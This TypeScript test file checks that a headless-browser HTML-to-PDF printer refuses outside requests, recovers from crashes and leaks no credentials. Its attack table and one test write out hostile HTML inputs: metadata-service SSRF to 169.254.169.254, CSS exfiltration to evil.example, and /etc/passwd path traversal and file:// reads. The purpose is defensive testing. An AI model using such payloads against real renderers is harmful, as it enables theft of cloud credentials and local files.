import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { filesInMemory, openBrowser, printPage, printPages, PrintTimeout, thisMachine, type FileSource, type PrintJob } from '../../src/render/browser.ts';
import type { World } from './world.ts';

function job(body: string, more: Partial<PrintJob> = {}): PrintJob {
  const html = `<!doctype html><html lang="en"><head><title>Page</title></head><body>${body}</body></html>`;
  return { name: 'page', document: 'report.html', files: filesInMemory(new Map([['report.html', Buffer.from(html)]])), stylesheets: [], linkBase: null, ...more };
}

/** Files that do something the first time they are asked for. */
function troubled(files: FileSource, trouble: () => Promise<unknown>): FileSource {
  let asked = 0;
  return async (path) => {
    if (asked++ === 0) await trouble();
    return files(path);
  };
}

const attacks = {
  'an image of the metadata service': ['<img src="http://169.254.169.254/latest/meta-data/">', 'http://169.254.169.254/latest/meta-data/'],
  'a frame of the metadata service': ['<iframe src="http://169.254.169.254/x"></iframe>', 'http://169.254.169.254/x'],
  'a stylesheet from elsewhere': ['<link rel="stylesheet" href="https://evil.example/x.css">', 'https://evil.example/x.css'],
  'an address with what it took': ['<style>p { background: url("https://evil.example/?secret") }</style><p>x', 'https://evil.example/?secret'],
  'a page that goes elsewhere': ['<meta http-equiv="refresh" content="0;url=http://169.254.169.254/">', 'http://169.254.169.254/'],
  'a page that loads itself for ever': ['<meta http-equiv="refresh" content="0">', 'https://report.invalid/report.html'],
  'a path out of the folder': ['<img src="a/..%2f..%2fetc/passwd">', 'https://report.invalid/a/..%2f..%2fetc/passwd'],
} as const;

export function printingTests(world: () => World): void {
  describe('printing', () => {
    it.each(Object.entries(attacks))('refuses %s, says so, and prints the rest', async (_, [body, address]) => {
      const printed = await printPage(world().browser, job(`<h1>Heading</h1>${body}`));
      expect(printed.refused).toContain(address);
      expect(Buffer.from(printed.bytes).toString('latin1', 0, 5)).toBe('%PDF-');
    });

    it('reaches no server, not even of this machine, and no file', async () => {
      const hits: (string | undefined)[] = [];
      const server = createServer((request, response) => {
        hits.push(request.url);
        response.end();
      });
      await new Promise<void>((resolve) => {
        server.listen(0, '127.0.0.1', resolve);
      });
      const address = server.address();
      const origin = typeof address === 'object' && address !== null ? `http://127.0.0.1:${address.port}` : '';
      const body = `<img src="${origin}/img"><iframe src="${origin}/frame"></iframe><object data="${origin}/object"></object><link rel="preconnect" href="${origin}"><link rel="prefetch" href="${origin}/prefetch"><video src="${origin}/video"></video><iframe src="file:///etc/passwd"></iframe><script>fetch("${origin}/script")</script>`;
      const printed = await printPage(world().browser, job(body));
      server.close();
      expect(hits).toEqual([]);
      expect(printed.refused).toContain(`${origin}/img`);
      expect(printed.refused.join()).not.toContain('/script');
    });

    it('turns links to neighbouring files into text, or into links to where the report is published', async () => {
      const page = job('<a href="report.json">figures</a> <a href="https://portal.azure.com/#x">portal</a> <a href="#top">up</a>');
      const links = async (linkBase: string | null): Promise<readonly string[]> => {
        const { bytes } = await printPage(world().browser, { ...page, linkBase });
        return [...Buffer.from(bytes).toString('latin1').matchAll(/\/URI \(([^)]*)\)/g)].map(([, uri]) => uri ?? '');
      };
      expect(await links(null)).toEqual(['https://portal.azure.com/#x']);
      expect(await links('https://contoso.example/reports/runs/1/report.html')).toEqual(['https://contoso.example/reports/runs/1/report.json', 'https://portal.azure.com/#x']);
    });

    it('tries a crashed page once more', async () => {
      const page = job('<link rel="stylesheet" href="late.css"><p>survivor');
      const crash = async (): Promise<void> => {
        const running = await world().browser.current();
        const target = running.targets().find((one) => one.type() === 'page' && one.browserContext() !== running.defaultBrowserContext());
        const session = await target?.createCDPSession();
        // Never answered, since the page that would answer is gone.
        void session?.send('Page.crash').catch(() => {});
        await new Promise(() => {});
      };
      const crashing = (times: number): FileSource => {
        let asked = 0;
        return async (path) => {
          if (path === 'late.css' && asked++ < times) await crash();
          return path === 'late.css' ? Buffer.from('p { color: red }') : page.files(path);
        };
      };
      expect((await printPage(world().browser, { ...page, files: crashing(1) })).bytes.length).toBeGreaterThan(500);
      await expect(printPage(world().browser, { ...page, files: crashing(2) })).rejects.toThrow(/twice: .*crash/i);
    });

    it('fails when a file of the report cannot be read', async () => {
      const unreadable = { ...job(''), files: () => Promise.reject(new Error('EIO: disk gone')) };
      await expect(printPage(world().browser, unreadable)).rejects.toThrow(/EIO: disk gone/);
      await expect(printPage(world().browser, { ...job(''), document: 'absent.html' })).rejects.toThrow(/absent\.html is not among the files/);
    });

    it('starts the browser again when it dies, and the pages beside it are printed too', async () => {
      const page = job('<p>survivor');
      const before = await world().browser.current();
      const killer = { ...page, name: 'killer', files: troubled(page.files, () => world().browser.kill()) };
      const outcomes = await printPages(world().browser, [killer, page, page, page], 2);
      expect(outcomes.map((outcome) => 'printed' in outcome)).toEqual([true, true, true, true]);
      expect(await world().browser.current()).not.toBe(before);
    });

    it('gives up on a page that takes too long and goes on', async () => {
      const page = job('<p>x');
      const slow = { ...page, name: 'slow', files: () => new Promise<null>(() => {}) };
      const outcomes = await printPages(world().browser, [slow, page], 1, { timeout: 300 });
      expect(outcomes[0]).toMatchObject({ name: 'slow', error: expect.any(PrintTimeout) });
      expect(outcomes[1]).toHaveProperty('printed');
    });

    it('leaves no page open and no profile behind', async () => {
      const own = await openBrowser();
      const running = await own.current();
      const folder = running.process()?.spawnargs.find((flag) => flag.startsWith('--user-data-dir='))?.slice('--user-data-dir='.length) ?? '';
      await printPages(own, [job('<p>x'), job('<img src="https://evil.example/">')], 2);
      expect(await running.pages()).toHaveLength(1);
      expect(running.browserContexts()).toHaveLength(1);
      const name = folder.slice(dirname(folder).length + 1);
      expect(await readdir(dirname(folder))).toContain(name);
      await own.close();
      expect(running.process()?.exitCode ?? running.process()?.signalCode).not.toBeNull();
      expect(await readdir(dirname(folder))).not.toContain(name);
    });

    it.skipIf(process.platform === 'win32')('goes on without the sandbox where the system has no namespaces, and says so', async () => {
      const folder = await mkdtemp(join(tmpdir(), 'secure-score-fake-'));
      const wrapper = join(folder, 'chrome');
      const real = world().browser.found.executablePath;
      await writeFile(wrapper, `#!/bin/sh\ncase " $* " in *" --no-sandbox "*) exec '${real}' "$@";; esac\necho 'FATAL: No usable sandbox! If this is a Debian system, see' >&2\nexit 1\n`, { mode: 0o700 });
      const own = await openBrowser({ configured: wrapper, machine: { ...thisMachine(), userId: 4_000_000 } });
      expect(own.sandbox).toBe(false);
      expect(own.notes).toEqual([expect.stringContaining('no namespaces')]);
      await own.close();
      await writeFile(wrapper, '#!/bin/sh\necho "libfoo.so.1 is missing" >&2\nexit 1\n');
      await expect(openBrowser({ configured: wrapper })).rejects.toThrow(/does not start \(configured: .*it says: libfoo\.so\.1 is missing/);
      await rm(folder, { recursive: true });
    });

    it('passes no credentials on to the browser, says when the sandbox is off, opens no port', async () => {
      const child = (await world().browser.current()).process();
      expect(child?.spawnargs.filter((flag) => /web-security|single-process|site-isolation|remote-debugging-port/.test(flag))).toEqual([]);
      expect(child?.spawnargs.includes('--no-sandbox')).toBe(!world().browser.sandbox);
      expect(world().browser.notes.some((note) => note.includes('without its sandbox'))).toBe(!world().browser.sandbox);
      if (process.platform !== 'linux' || child?.pid === undefined) return;
      const names = (await readFile(`/proc/${child.pid}/environ`, 'utf8')).split('\0').map((pair) => pair.split('=')[0]);
      expect(names).not.toContain('AZURE_CLIENT_SECRET');
    });
  });
}
